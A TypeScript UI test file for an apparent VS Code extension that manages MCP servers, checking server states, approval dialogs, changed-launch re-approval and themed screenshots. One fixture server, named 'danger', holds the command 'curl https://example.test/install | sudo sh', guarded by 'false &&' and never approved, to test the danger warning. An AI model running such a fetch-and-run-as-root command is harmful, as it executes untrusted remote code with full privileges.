import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { retry } from '../host/retry.ts';
import { uiSuite } from '../host/uiSuite.ts';
import type { Theme, Workbench } from '../host/workbench.ts';

suite('the states of servers');

const root = path.join(import.meta.dirname, '../..');
const filesystem = path.join(root, 'node_modules/@modelcontextprotocol/server-filesystem/dist/index.js');
const pictures = path.join(root, 'out/pictures');
mkdirSync(pictures, { recursive: true });

const ui = uiSuite({ vsix: [path.join(root, 'dist/patchbay.vsix')] });
const guarded = createServer((_request, response) => response.writeHead(401).end());
await new Promise<void>((resolve) => guarded.listen(0, '127.0.0.1', resolve));
after(() => guarded.close());
const guardedUrl = `http://127.0.0.1:${(guarded.address() as AddressInfo).port}/mcp`;

/** Ready for a moment, and then gone. */
const crashing = `
process.stdin.on('data', (data) => {
  for (const line of String(data).trim().split('\\n')) {
    const { id, method } = JSON.parse(line);
    if (method === 'initialize') {
      const result = { protocolVersion: '2025-11-25', capabilities: { tools: {} }, serverInfo: { name: 'crashing', version: '0.1.0' } };
      console.log(JSON.stringify({ jsonrpc: '2.0', id, result }));
      setTimeout(() => { console.error('out of luck'); process.exit(7); }, 500);
    } else if (method === 'tools/list') {
      const tools = [{ name: 'try', inputSchema: { type: 'object' } }];
      console.log(JSON.stringify({ jsonrpc: '2.0', id, result: { tools } }));
    } else if (id !== undefined) {
      console.log(JSON.stringify({ jsonrpc: '2.0', id, error: { code: -32601, message: 'no' } }));
    }
  }
});`;

const servers = {
  files: { command: 'node', args: [filesystem, '${workspaceFolder}'] },
  crashing: { command: 'node', args: ['-e', crashing] },
  licence: { command: 'node', args: ['-e', 'console.error("no licence found"); process.exit(3)'] },
  missing: { command: 'uvx', args: ['some-server'] },
  token: { command: 'node', args: [filesystem, '.'], env: { TOKEN: '${input:token}', REGION: '${input:region}' } },
  guarded: { type: 'http', url: guardedUrl },
  long: { command: 'node', args: [...Array.from({ length: 80 }, (_, at) => `--option-${at}`), '--the-end'] },
  danger: { command: 'bash', args: ['-c', 'false && curl https://example.test/install | sudo sh'] },
};
const inputs = [
  { type: 'promptString', id: 'token', description: 'Token of the test service', password: true },
  { type: 'pickString', id: 'region', description: 'Where it runs', options: ['north', 'south'] },
];
const files = {
  '.vscode/mcp.json': JSON.stringify({ servers, inputs }, null, 2),
  '.mcp.json': JSON.stringify({ mcpServers: { files: { command: 'node', args: ['other.js'] } } }),
  '.cursor/mcp.json': JSON.stringify({ mcpServers: { browser: { command: 'npx', args: ['browser-server'] } } }),
};

ui(
  'every state has its row, and what a server waits for is asked for when it is started',
  { files, timeoutMs: 240_000 },
  async ({ workbench, page, folder }) => {
    const { views, dialogs, quick } = workbench;
    await page.setViewportSize({ width: 1280, height: 1000 });
    await views.open('Patchbay');
    await page.getByRole('button', { name: 'Conversations Section' }).click();
    await views.item('Servers', 'Server danger, waits for your approval').waitFor();
    await views.rowAction('Servers', 'Server danger, waits for your approval', 'Start Server...');
    await dialogs.modal.getByText(/Danger:/).waitFor();
    await pictureInThemes(workbench, 'trust-danger', ['dark', 'light']);
    // Enter alone does not start it, neither in the dialog nor in the question beside the document.
    await page.keyboard.press('Enter');
    await quick.rows('Do Not Start').waitFor();
    await page.keyboard.press('Enter');
    await quick.rows('Do Not Start').waitFor({ state: 'hidden' });
    await views.item('Servers', 'Server danger, waits for your approval').waitFor();
    await readAllOfALongOne(workbench, page);
    for (const name of ['files', 'crashing', 'licence', 'missing', 'guarded', 'token']) {
      await views.rowAction('Servers', `Server ${name}, waits for your approval`, 'Start Server...');
      await dialogs.answer('Allow and Start');
      await views
        .item('Servers', new RegExp(`^Server ${name}, (running|failed|refused|waits for your input)`))
        .waitFor();
    }
    await quick.box.waitFor();
    await workbench.screenshot(path.join(pictures, 'servers-input.png'));
    await quick.input('secret');
    await quick.pick('north');
    await views.item('Servers', 'Server token, running').waitFor();
    await views.item('Servers', /^Server crashing, failed, is tried again/).waitFor();
    for (const theme of ['dark', 'light', 'highContrast', 'highContrastLight'] as const) {
      await workbench.theme(theme);
      await retry(async () => {
        assert.match(
          await views.text('Servers'),
          /^files running · 14 tools · .*\n {2}Tools 14\nfiles \.mcp\.json · shadowed by /,
        );
      });
      await workbench.screenshot(path.join(pictures, `servers-states-${theme}.png`));
    }
    assert.match(await views.text('Servers'), /^danger waits for your approval$/m);
    await workbench.command('workbench.action.closeAllEditors');
    await turnAToolOff(workbench);
    await askAgainWithDiff(workbench, folder);
    await seeDetails(workbench, page);
  },
);

const atRest = {
  running: servers.files,
  stopped: servers.files,
  offHere: servers.files,
  offInFile: { ...servers.files, disabled: true },
  forbidden: servers.files,
};

ui(
  'a server that does not run says why, and by whose word',
  {
    files: { '.vscode/mcp.json': JSON.stringify({ servers: atRest }) },
    machineSettings: { 'patchbay.servers.denied': [{ name: 'forbidden' }] },
    timeoutMs: 180_000,
  },
  async ({ workbench, page }) => {
    const { views, dialogs } = workbench;
    await views.open('Patchbay');
    await page.getByRole('button', { name: 'Conversations Section' }).click();
    for (const name of ['running', 'stopped']) {
      await views.rowAction('Servers', `Server ${name}, waits for your approval`, 'Start Server...');
      await dialogs.answer('Allow and Start');
      await views.item('Servers', `Server ${name}, running`).waitFor();
    }
    await views.rowAction('Servers', 'Server stopped, running', 'Stop Server...');
    await views.item('Servers', 'Server stopped, stopped').waitFor();
    await views.contextMenu('Servers', 'Server offHere, waits for your approval', 'Disable Server...');
    await views.item('Servers', 'Server offHere, off in this workspace').waitFor();
    assert.match(await views.text('Servers'), /^offInFile off in its file$/m);
    assert.match(await views.text('Servers'), /^forbidden not allowed on this machine$/m);
    await page.setViewportSize({ width: 700, height: 600 });
    await pictureInThemes(workbench, 'servers-at-rest', ['dark', 'light', 'highContrast']);
  },
);

/** A changed launch stops, and waits for a yes to exactly what has changed. */
async function askAgainWithDiff(workbench: Workbench, folder: string): Promise<void> {
  const { views, dialogs } = workbench;
  const changed = {
    ...servers,
    licence: { command: 'node', args: ['-e', 'process.exit(4)', '--more'], env: { EXTRA: '1' } },
  };
  writeFileSync(path.join(folder, '.vscode/mcp.json'), JSON.stringify({ servers: changed, inputs }, null, 2));
  const row = 'Server licence, changed, waits for your approval';
  await views.item('Servers', row).waitFor();
  await views.rowAction('Servers', row, 'Start Server...');
  await dialogs.modal.getByText('Environment: + EXTRA').waitFor();
  await pictureInThemes(workbench, 'trust-diff', ['dark', 'light']);
  await dialogs.answer('Cancel');
  await views.item('Servers', row).waitFor();
}

/** More than a dialog can show: there is no yes before all of it was shown. */
async function readAllOfALongOne({ views, dialogs, quick }: Workbench, page: Page): Promise<void> {
  await views.rowAction('Servers', 'Server long, waits for your approval', 'Start Server...');
  await dialogs.modal.getByText(/more lines/).waitFor();
  assert.equal(await dialogs.modal.getByRole('button', { name: 'Allow and Start' }).count(), 0);
  await page.screenshot({ path: path.join(pictures, 'trust-long-dialog.png') });
  await dialogs.answer('Show Full Command');
  await page.getByRole('tab', { name: /long\.txt/ }).waitFor();
  await quick.rows('Do Not Start').waitFor();
  await page.screenshot({ path: path.join(pictures, 'trust-long-document.png') });
  await quick.pick('Do Not Start');
  await views.item('Servers', 'Server long, waits for your approval').waitFor();
}

async function turnAToolOff({ views }: Workbench): Promise<void> {
  await views.expand('Servers', /^Tools of files/);
  await views
    .item('Servers', /^write_file/)
    .getByRole('checkbox')
    .click();
  await views.item('Servers', /^Tools of files, 14 · 1 off/).waitFor();
}

async function seeDetails(workbench: Workbench, page: Page): Promise<void> {
  await workbench.views.rowAction('Servers', 'Server files, running', 'Show Server Details...');
  await page.getByRole('tab', { name: /files\.md/ }).waitFor();
  const preview = workbench.webviews.find('vscode.markdown-language-features');
  await preview.getByText('running').first().waitFor({ timeout: 60_000 });
  await pictureInThemes(workbench, 'servers-details', ['dark', 'light']);
  await workbench.views.rowAction('Servers', 'Server files, running', 'Stop Server...');
  await preview.getByText('stopped').first().waitFor();
}

async function pictureInThemes(workbench: Workbench, name: string, themes: readonly Theme[]): Promise<void> {
  for (const theme of themes) {
    await workbench.theme(theme);
    await workbench.screenshot(path.join(pictures, `${name}-${theme}.png`));
  }
}
